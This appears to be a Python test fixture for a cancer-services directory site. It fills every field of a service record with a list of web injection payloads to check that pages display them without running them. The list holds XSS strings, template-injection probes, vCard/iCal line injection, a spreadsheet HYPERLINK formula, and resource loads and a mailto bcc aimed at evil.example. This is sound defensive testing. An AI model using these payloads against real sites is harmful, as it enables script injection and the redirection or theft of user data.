"""Texts that a page must show and never obey, and harmless twins of the same shape."""

import re
from typing import Any

from finder.directory.records import ServiceRecord
from finder.text import print_of
from tests import make

# What makes a spreadsheet program take a cell for a formula, as written down apart from our code.
FORMULA_SIGNS = "=+-@\t\r＝＋－＠"
POISONS = (
    "<script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</option></select><script>window.hit=1</script>",
    "</a><a href=javascript:window.hit=1>x</a>",
    "<img src=x onerror=window.hit=1>",
    "<IMG SRC=x OnErRoR=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<body onload=window.hit=1>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example/><input name=q>",
    "<button formaction=javascript:window.hit=1>x</button>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title=</noscript><img src=x onerror=window.hit=1>>",
    "<plaintext>",
    "<xmp><script>window.hit=1</script></xmp>",
    "<!-- --!><script>window.hit=1</script>",
    "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version='1.0'?><script>window.hit=1</script>",
    '" onmouseover="window.hit=1',
    "' onmouseover='window.hit=1",
    '" autofocus onfocus=window.hit=1 x="',
    "` onmouseover=`window.hit=1",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    '"><svg onload=window.hit=1>',
    '\\"><script>window.hit=1</script>',
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "&quot; onmouseover=&quot;window.hit=1",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\u003cscript\u003ewindow.hit=1\u003c/script\u003e",
    "＜script＞window.hit=1＜/script＞",
    "{{ 7 * 7 }}",
    "{{ config.items() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# hidden #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d %n",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:msgbox(1)",
    '=HYPERLINK("//evil.example","x")',
    "@import url(//evil.example/x.css);",
    '<a href="//evil.example" target=_blank>x</a>',
    '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
    "<script src=//evil.example/x.js></script>",
    "x\nEND:VCARD\nBEGIN:VCARD\nFN:hit\nTEL:5550100",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:hit;,\\n",
    "x\x85END:VCARD\u2028BEGIN:VCARD\u2029FN:hit",
    "help@example.org?bcc=hit@evil.example&body=hit",
)
# All of them, in pieces as long as a name may be, and in one text for what may be longer.
LONGEST_PIECE = 280
SCHEDULE = {
    "byday": ["TU"],
    "opens_at": "18:00",
    "closes_at": "19:30",
    "timezone": "America/New_York",
}
CHECK = {
    "field_group": "contact",
    "checked_on": "2026-11-01",
    "checked_by": "staff",
    "method": "phone",
    "result": "confirmed",
}
SIGNS = re.compile(r"[^\w\s.,:;]")
LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"

# What a path cannot hold, or what ends it.
NO_PARTS = re.compile(r"[\s?#&]")


def harmless(text: str) -> str:
    """Give a text of the same words without any sign that a page could take for its own.

    As long as the text, and another one for another text.
    """
    return SIGNS.sub(lambda sign: LETTERS[ord(sign[0]) % len(LETTERS)], text)


def pieces() -> list[str]:
    """Give all the texts, joined to as few as fit into a name."""
    found = [""]
    for text in POISONS:
        if len(found[-1]) + len(text) >= LONGEST_PIECE:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip()
    return found


def record(
    number: int, text: str, town: tuple[str, str] = ("Boston", "MA"), **others: Any
) -> ServiceRecord:
    """Give a record that holds the text, of at most 280 signs, wherever a record can hold one."""
    name = f"{number} {text}"
    place = make.location(f"place {number}", *town, description=text)
    place["name"] = name
    place["addresses"][0] |= {"address_1": text, "postal_code": text[:20]}
    description = f"{text} For people with cancer."
    link = f"https://example.org/{NO_PARTS.sub('', text)}"
    fields: dict[str, Any] = {
        "organization": {
            "id": str(make.ident(f"runner {number}")),
            "name": name,
            "website": f"{link}/site",
        },
        "description": description,
        "eligibility_description": text,
        "hours_description": text,
        "award": text,
        "own_patients_only": text,
        "designation": text,
        "staff_note": text,
        "keywords": [text[:40]],
        "former_names": [(text, text)],
        "phones": [{"number": "+1 617 555 0100", "description": text, "published": True}],
        "email": text,
        "email_published": True,
        "url": link,
        "url_kind": "own",
        "sources": [{"url": text, "seen": text, "page_date": text[:40]}],
        "evidence_page_date": text[:40],
        "delivery_modes": ["phone", "in_person"],
        "reach": "site",
        "locations": [place],
        "cancers": ["breast"],
        "service_areas": [{"area": "US", "name": text[:120]}],
        "schedules": [SCHEDULE],
        "translations": [
            {"language": "es", "field": field, "text": text, "source_hash": print_of(said)}
            for field, said in (("name", name), ("description", description), ("award", text))
        ],
        "freshness": [CHECK | {"source": text}],
    }
    return make.record(name, **fields | {"id": str(make.ident(f"poison {number}"))} | others)
